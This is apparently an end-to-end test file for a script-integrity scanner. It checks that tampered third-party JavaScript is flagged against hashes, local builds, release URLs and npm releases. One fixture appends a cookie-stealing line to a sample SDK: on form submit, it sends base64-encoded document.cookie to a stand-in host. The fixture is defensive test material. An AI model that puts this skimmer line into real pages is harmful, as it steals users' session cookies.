// E2E: provenance. A hosted file tampered where it is hosted, before scriptwarden ever saw it, is caught on the
// first scan by each kind of source of its true bytes (a hash, a local build artifact, a release URL, a published npm
// release), for a resource target and for an SDK a page loads; a source that cannot be fetched is a warning.

import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { parseJson, runCli, tempProject, writeConfig } from '../fixtures/cli.js';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import { fetchReleases, releaseFile, startLocalRegistry, type LocalRegistry } from '../fixtures/npm-releases.js';
import { databaseOf, plainSql } from '../fixtures/test-database.js';
import type { ScanJson } from './scenario.js';

const TRUE_SDK = '/* acme-pay sdk 2.0.0 */\n(function (w) { w.AcmePay = { version: "2.0.0", mount: function (el) { el.dataset.pay = "1"; } }; })(window);\n';
/** One line appended where the file is hosted, as on Codecov's uploader and Twilio's SDK. */
const TAMPERED_SDK = `${TRUE_SDK}document.addEventListener('submit', function () { new Image().src = 'http://sdk-metrics.test/c?d=' + btoa(document.cookie); });\n`;
const sha = (text: string) => createHash('sha256').update(text).digest('hex');

describe('provenance: the served file is the published file', () => {
  let site: FixtureSite;
  let registry: LocalRegistry;
  let dir: string;
  let first: ScanJson;
  const scan = async () => parseJson<ScanJson>(await runCli(['scan', '--json'], { cwd: dir }));

  beforeAll(async () => {
    await fetchReleases([{ name: 'js-cookie', from: '3.0.1', to: '3.0.5', file: 'dist/js.cookie.min.js' }]);
    registry = await startLocalRegistry();
    site = await startFixtureSite();
    const cookie = releaseFile('js-cookie', '3.0.5', 'dist/js.cookie.min.js');
    site.set('vendor.test', '/a/sdk.js', TAMPERED_SDK);
    site.set('vendor.test', '/b/sdk.js', TRUE_SDK);
    site.set('vendor.test', '/js.cookie.min.js', `${cookie}\n;window.Cookies && (window._c = window.Cookies.get());`);
    site.set('releases.test', '/v2.0.0/sdk.js', TRUE_SDK);
    site.set('shop.test', '/', `<!doctype html><html><head><script src="${site.url('vendor.test', '/a/sdk.js')}"></script></head><body>shop</body></html>`);
    dir = tempProject('sw-provenance-');
    mkdirSync(join(dir, 'dist'));
    writeFileSync(join(dir, 'dist', 'sdk.js'), TRUE_SDK);
    const path = writeConfig(dir, [], `intel:\n  registry: ${registry.url}\ncanary:\n  enabled: false`);
    const resource = (name: string, url: string, expect: string) => `  - name: ${name}\n    type: resource\n    url: ${url}\n    expect: ${expect}`;
    const targets = [
      resource('sdk-sha', site.url('vendor.test', '/a/sdk.js'), `{sha256: ${sha(TRUE_SDK)}}`),
      resource('sdk-file', site.url('vendor.test', '/a/sdk.js'), '{file: ./dist/sdk.js}'),
      resource('sdk-url', site.url('vendor.test', '/a/sdk.js'), `{url: "${site.url('releases.test', '/v2.0.0/sdk.js')}"}`),
      resource('cookie-npm', site.url('vendor.test', '/js.cookie.min.js'), '{npm: js-cookie@3.0.5/dist/js.cookie.min.js}'),
      resource('sdk-genuine', site.url('vendor.test', '/b/sdk.js'), `{sha256: ${sha(TRUE_SDK)}}`),
      resource('sdk-unfetchable', site.url('vendor.test', '/b/sdk.js'), `{url: "${site.url('releases.test', '/v9/missing.js')}"}`),
      `  - name: shop\n    url: ${site.url('shop.test', '/')}\n    expect:\n      - script: ${site.url('vendor.test', '/a/sdk.js')}\n        url: "${site.url('releases.test', '/v2.0.0/sdk.js')}"`,
    ];
    const { readFileSync } = await import('node:fs');
    writeFileSync(path, readFileSync(path, 'utf8').replace('targets:\n', `targets:\n${targets.join('\n')}\n`));
    first = await scan();
  });
  afterAll(async () => { await site?.close(); await registry?.close(); });

  it('catches a file tampered before the first scan, by every kind of source, as critical', () => {
    assert.equal(first.exitCode, 1);
    const mismatches = first.alerts.filter((a) => a.type === 'provenance.mismatch');
    assert.deepEqual(mismatches.map((a) => a.target).sort(), ['cookie-npm', 'sdk-file', 'sdk-sha', 'sdk-url', 'shop']);
    for (const alert of mismatches) assert.equal(alert.severity, 'critical', alert.target);
    const sdk = mismatches.find((a) => a.target === 'sdk-url')!;
    assert.deepEqual(sdk.details.provenance, { source: `url ${site.url('releases.test', '/v2.0.0/sdk.js')}`, expectedSha256: sha(TRUE_SDK), servedSha256: sha(TAMPERED_SDK) });
    assert.equal(sdk.oldValue, sha(TRUE_SDK));
    assert.equal(sdk.newValue, sha(TAMPERED_SDK));
    assert.match(mismatches.find((a) => a.target === 'cookie-npm')!.summary, /is not the file its publisher ships \(npm js-cookie@3\.0\.5\/dist\/js\.cookie\.min\.js\)/);
    assert.equal(first.alerts.filter((a) => a.target === 'sdk-genuine' || a.target === 'sdk-unfetchable').length, 0);
  });

  it('says when the true bytes could not be had, instead of passing silently', () => {
    const unfetchable = first.targets.find((t) => t.target === 'sdk-unfetchable')!;
    assert.equal(unfetchable.status, 'ok');
    assert.ok(unfetchable.warnings.some((w) => /^provenance of .*\/b\/sdk\.js not checked: the expected bytes \(url .*\/v9\/missing\.js\) could not be had: HTTP 404/.test(w)), unfetchable.warnings.join('\n'));
    assert.deepEqual(first.targets.find((t) => t.target === 'sdk-genuine')!.warnings, []);
  });

  it('keeps the true bytes, so the mismatch shows what was added', async () => {
    const shown = parseJson<{ diff: string | null }>(await runCli(['show', String(first.alerts.find((a) => a.target === 'sdk-url')!.id), '--json'], { cwd: dir }));
    assert.match(shown.diff ?? '', /^\+document\.addEventListener\('submit'/m, 'the diff is the publisher\'s file against the served one');
    const db = plainSql(databaseOf(dir));
    try {
      const stored = await db.prepare<[string], { n: number }>('SELECT COUNT(*) AS n FROM blobs WHERE sha256 = ?').get(sha(TRUE_SDK));
      assert.equal(Number(stored!.n), 1, 'the true SDK stored once, whichever sources gave it');
    } finally {
      await db.close();
    }
  });

  it('raises a mismatch once, and not again once it is approved', async () => {
    const second = await scan();
    assert.deepEqual(second.alerts.filter((a) => a.type === 'provenance.mismatch'), [], 'seen again, not raised again');
    const cookie = first.alerts.find((a) => a.target === 'cookie-npm')!;
    assert.equal((await runCli(['approve', String(cookie.id), '--by', 'alice', '--note', 'our patched build'], { cwd: dir })).code, 0);
    const third = await scan();
    assert.deepEqual(third.alerts.filter((a) => a.target === 'cookie-npm'), []);
  });
});
